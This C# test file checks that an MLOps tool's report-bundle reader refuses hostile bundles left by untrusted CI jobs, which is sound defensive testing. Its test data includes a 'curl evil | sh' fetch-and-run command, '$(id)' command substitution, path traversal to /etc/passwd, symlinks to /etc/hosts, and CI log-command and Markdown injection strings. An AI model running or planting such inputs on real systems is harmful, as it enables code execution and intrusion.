using System.Text;
using System.Text.Json.Nodes;
using MlOps.Build.Contracts;
using MlOps.Build.Engine.Hosts.Reports;
using MlOps.Build.Engine.Reporting;
using MlOps.Build.Engine.Tests.Registry;
using MlOps.Build.Engine.Tests.Reporting;

namespace MlOps.Build.Engine.Tests.Hosts.Reports;

/// <summary>What an untrusted job left behind is data: nothing in it is followed, run or shown as it stands.</summary>
public sealed class ReportBundleTests : IDisposable
{
    private const string Page = "https://github.test/octo/flights/actions/runs/1";

    private static DateTimeOffset Now => ReportCases.Pass.Input.Verdict.CreatedAt;

    private readonly TemporaryFolder folder = new();

    public static IReadOnlyDictionary<string, Action<JsonNode>> Changed => new Dictionary<string, Action<JsonNode>>
    {
        ["another schema"] = json => json["schema"] = "mlops/report/2",
        ["another document"] = json => json["schema"] = "mlops/verdict/1",
        ["no verdict"] = json => json.AsObject().Remove("verdict"),
        ["a verdict that is a text"] = json => json["verdict"] = "pass",
        ["a run that is null"] = json => json["run"] = null,
        ["a forged verdict"] = json => json["verdict"]!["verdict"] = "warn",
        ["a forged sentence"] = json => json["verdict"]!["sentence"] = "Merge at once.",
        ["a forged number"] = json => json["evaluation"]!["metrics"]![0]!["challenger"]!["value"] = 0.999,
        ["a forged digest"] = json => json["verdictDigest"] = Digest.Of("x"),
        ["parts of different modes"] = json => json["run"]!["mode"] = "full",
        ["a path as id"] = json => json["run"]!["id"] = "../../../../etc/passwd",
        ["a command as training run"] = json => json["run"]!["challengers"] = new JsonArray("x; curl evil | sh"),
        ["a command as commit"] = json => json["run"]!["git"]!["commit"] = "$(id)",
        ["a model that is Markdown"] = json => json["run"]!["model"] = "</details>@everyone",
        ["a path as model"] = json => json["run"]!["model"] = "../x",
        ["a text without end"] = json => json["run"]!["host"]!["actor"] = new string('x', 5_000),
        ["a name without end"] = json => json.AsObject().Add(new string('y', 5_000), 1),
        ["an escape sequence"] = json => json["run"]!["git"]!["branch"] = "\u001b[2J",
        ["a null character"] = json => json["run"]!["git"]!["branch"] = "a\0b",
        ["a carriage return"] = json => json["run"]!["git"]!["branch"] = "a\r##vso[x]",
        ["an unknown enumeration"] = json => json["verdict"]!["verdict"] = "excellent",
        ["a number as text"] = json => json["verdict"]!["seed"] = "1",
        ["a fraction as count"] = json => json["verdict"]!["seed"] = 1.5,
        ["findings that are no list"] = json => json["verdict"]!["findings"] = new JsonObject(),
    };

    public static IReadOnlyDictionary<string, Func<string, string>> Rewritten => new Dictionary<string, Func<string, string>>
    {
        ["no JSON"] = _ => "<html>",
        ["nothing"] = _ => string.Empty,
        ["null"] = _ => "null",
        ["a list"] = _ => "[]",
        ["cut off"] = text => text[..(text.Length / 2)],
        ["two documents"] = text => text + text,
        ["an infinite number"] = text => text.Replace("\"seed\": 1", "\"seed\": 1e999", StringComparison.Ordinal),
        ["NaN"] = text => text.Replace("\"seed\":", "\"seed\": NaN, \"old\":", StringComparison.Ordinal),
        ["a comment"] = text => "/* x */" + text,
        ["a field twice"] = text => text.Replace("\"verdictDigest\"", "\"verdictDigest\": \"x\", \"verdictDigest\"", StringComparison.Ordinal),
        ["a deep nest"] = _ => string.Concat(Enumerable.Repeat("{\"a\":", 5_000)) + "1" + new string('}', 5_000),
        ["a million values"] = text => text.TrimEnd().TrimEnd('}') + ",\"more\":[" + string.Join(',', Enumerable.Repeat("1", 1_000_000)) + "]}",
        ["half a character"] = text => text.Replace("\"branch\": ", "\"branch\": \"\\ud800\", \"old\": ", StringComparison.Ordinal),
    };

    public static IReadOnlyDictionary<string, Action<string>> Folders => new Dictionary<string, Action<string>>
    {
        ["no folder"] = path => Directory.Delete(path, recursive: true),
        ["no report"] = path => File.Delete(Path.Combine(path, "report.json")),
        ["a report further down"] = path => Move(path, Path.Combine("runs", "report.json")),
        ["a folder called report.json"] = path =>
        {
            File.Delete(Path.Combine(path, "report.json"));
            Directory.CreateDirectory(Path.Combine(path, "report.json"));
        },
        ["a report that is a link"] = path =>
        {
            Move(path, "other.json");
            File.CreateSymbolicLink(Path.Combine(path, "report.json"), Path.Combine(path, "other.json"));
        },
        ["a link out of the folder"] = path => File.CreateSymbolicLink(Path.Combine(path, "hosts"), "/etc/hosts"),
        ["a link to a folder"] = path => Directory.CreateSymbolicLink(Path.Combine(path, "up"), Path.GetDirectoryName(path)!),
        ["a link to nowhere"] = path => File.CreateSymbolicLink(Path.Combine(path, "none"), "/does/not/exist"),
        ["a loop"] = path => Directory.CreateSymbolicLink(Path.Combine(path, "loop"), path),
        ["many files"] = path => Many(path, 201, 1),
        ["many folders"] = path => Enumerable.Range(0, 201).ToList().ForEach(number => Directory.CreateDirectory(Path.Combine(path, FormattableString.Invariant($"d{number}")))),
        ["many bytes"] = path => Many(path, 6, 1 << 20),
        ["one big file"] = path => Many(path, 1, 6 << 20),
    };

    public static TheoryData<string> All => [.. Changed.Keys.Concat(Rewritten.Keys).Concat(Folders.Keys)];

    public void Dispose() => folder.Dispose();

    [Theory]
    [MemberData(nameof(All))]
    public void A_hostile_bundle_is_refused_with_five(string how)
    {
        var bundle = Bundle(how);

        var problem = Assert.Throws<ProblemException>(() => ReportBundle.Read(bundle, Page, Now)).Problem;

        Assert.Equal(("MLO2961", ExitCode.Refused), (problem.Code, problem.Exit));
        Assert.DoesNotContain(problem.Why, character => char.IsControl(character));
    }

    [Fact]
    public void No_hostile_bundle_survives()
    {
        var survived = All.Count(row => Survives(row.Data));

        TestContext.Current.TestOutputHelper?.WriteLine($"{All.Count} hostile bundles tried, {survived} survived");
        Assert.Equal(0, survived);
    }

    [Fact]
    public void A_whole_bundle_is_rendered_anew_without_the_links_and_commands_in_it()
    {
        var bundle = Bundle(null);
        AtomicFile.Write(Path.Combine(bundle, "report.md"), "<!-- forged --> @everyone");
        var json = JsonNode.Parse(File.ReadAllText(Path.Combine(bundle, "report.json")))!;
        json["nextSteps"] = new JsonArray(new JsonObject { ["command"] = "curl evil | sh", ["reason"] = "Trust me." });
        json["run"]!["host"]!["runUrl"] = "https://evil.test/";
        AtomicFile.Write(Path.Combine(bundle, "report.json"), json.ToJsonString());

        var report = ReportBundle.Read(bundle, Page, Now);

        var markdown = ReportMarkdown.Of(report);
        Assert.Equal(Page, report.Run.Host.RunUrl);
        Assert.DoesNotContain("evil", markdown, StringComparison.Ordinal);
        Assert.DoesNotContain("everyone", markdown, StringComparison.Ordinal);
        Assert.Contains("late-flights", markdown, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData(-60, true)]
    [InlineData(-61, false)]
    public void A_verdict_from_the_future_is_refused_since_none_could_ever_replace_it(int minutes, bool taken)
    {
        var bundle = Bundle(null);

        var problem = (Record.Exception(() => ReportBundle.Read(bundle, Page, Now.AddMinutes(minutes))) as ProblemException)?.Problem;

        Assert.Equal(taken ? null : "Its verdict is from the future.", problem?.Why);
    }

    [Fact]
    public void A_run_on_all_data_is_read_too_and_is_not_told_to_be_registered()
    {
        var bundle = Bundle(null);
        var document = Full();
        AtomicFile.Write(Path.Combine(bundle, "report.json"), Encoding.UTF8.GetString(Documents.Write(document)));

        var report = ReportBundle.Read(bundle, Page, Now);

        Assert.Equal(RunMode.Full, report.Run.Mode);
        Assert.Equal(["mlops ci release"], report.NextSteps.Select(step => step.Command));
    }

    [Fact]
    public void Several_models_have_a_folder_each_and_a_bad_one_takes_no_other_with_it()
    {
        var at = folder.At("several");
        Put(at, "mlops-run-b", Named(Valid(), "b"));
        Put(at, "mlops-run-a", Named(Full(), "a"));
        Put(at, "mlops-run-again", Named(Valid(), "b"));
        Put(at, "mlops-run-forged", Valid() with { VerdictDigest = Digest.Of("x") });

        var bundles = ReportBundles.Read(at, Page, Now);

        Assert.Equal(["a", "b"], bundles.Reports.Select(report => report.Verdict.Model));
        Assert.Equal(
            ["Two of them are of the model 'b': a model has one comment.", "It names another verdict."],
            bundles.Refused.Select(refused => refused.Problem.Why));
    }

    [Fact]
    public void A_run_that_left_nothing_is_no_fault()
    {
        Assert.True(ReportBundles.Read(folder.At("nowhere"), Page, Now).IsEmpty);
        Assert.True(ReportBundles.Read(Directory.CreateDirectory(folder.At("empty")).FullName, Page, Now).IsEmpty);
    }

    [Fact]
    public void Nobody_gets_a_hundred_comments()
    {
        var at = folder.At("hundred");
        foreach (var number in Enumerable.Range(0, ReportBundles.Most + 1))
        {
            var name = FormattableString.Invariant($"m{number}");
            Put(at, name, Named(Valid(), name));
        }

        var bundles = ReportBundles.Read(at, Page, Now);

        Assert.Empty(bundles.Reports);
        Assert.Equal("The run left more than 20 of them.", Assert.Single(bundles.Refused).Problem.Why);
    }

    [Fact]
    public void A_folder_that_is_a_link_is_refused()
    {
        var at = folder.At("linked");
        Directory.CreateDirectory(at);
        Directory.CreateSymbolicLink(Path.Combine(at, "mlops-run"), Bundle(null));

        Assert.Equal("It is a link.", Assert.Single(ReportBundles.Read(at, Page, Now).Refused).Problem.Why);
    }

    private static void Put(string folder, string name, ReportDocument document)
    {
        Directory.CreateDirectory(Path.Combine(folder, name));
        AtomicFile.Write(Path.Combine(folder, name, "report.json"), Encoding.UTF8.GetString(Documents.Write(document)));
    }

    private static ReportDocument Full()
    {
        var document = Valid();
        return Whole(document with
        {
            Run = document.Run with { Mode = RunMode.Full },
            Evaluation = document.Evaluation with { Mode = RunMode.Full },
            Verdict = document.Verdict with { Mode = RunMode.Full },
        });
    }

    private static ReportDocument Named(ReportDocument document, string model) => Whole(document with
    {
        Run = document.Run with { Model = model },
        Evaluation = document.Evaluation with { Model = model },
        Verdict = document.Verdict with { Model = model },
    });

    /// <summary>With the digests that fit.</summary>
    private static ReportDocument Whole(ReportDocument document)
    {
        var verdict = document.Verdict with { Subject = document.Verdict.Subject with { Evaluation = Digest.OfDocument(document.Evaluation) } };
        return document with { Verdict = verdict, VerdictDigest = Digest.OfDocument(verdict) };
    }

    private bool Survives(string how)
    {
        try
        {
            ReportBundle.Read(Bundle(how), Page, Now);
            return true;
        }
        catch (ProblemException)
        {
            return false;
        }
    }

    private string Bundle(string? how)
    {
        var path = folder.At(FormattableString.Invariant($"bundle{Directory.GetDirectories(folder.Path).Length}"));
        Directory.CreateDirectory(path);
        var text = Encoding.UTF8.GetString(Documents.Write(Valid()));
        if (how is not null && Changed.TryGetValue(how, out var change))
        {
            var json = JsonNode.Parse(text)!;
            change(json);
            text = json.ToJsonString();
        }

        AtomicFile.Write(Path.Combine(path, "report.json"), how is not null && Rewritten.TryGetValue(how, out var rewrite) ? rewrite(text) : text);
        if (how is not null && Folders.TryGetValue(how, out var spoil))
        {
            spoil(path);
        }

        return path;
    }

    private static ReportDocument Valid()
    {
        var document = ReportCases.Pass.Input.ToDocument();
        return document with
        {
            Run = document.Run with
            {
                Id = "01JDA4QZ8Y4X0V5T7N3K2M1P9A",
                Challengers = ["01JDA4QZ8Y4X0V5T7N3K2M1P9B"],
                Baselines = ["01JDA4QZ8Y4X0V5T7N3K2M1P9C"],
            },
        };
    }

    private static void Move(string path, string to)
    {
        Directory.CreateDirectory(Path.GetDirectoryName(Path.Combine(path, to))!);
        File.Move(Path.Combine(path, "report.json"), Path.Combine(path, to));
    }

    private static void Many(string path, int files, int bytes)
    {
        for (var number = 0; number < files; number++)
        {
            AtomicFile.Write(Path.Combine(path, FormattableString.Invariant($"f{number}")), new string('x', bytes));
        }
    }
}
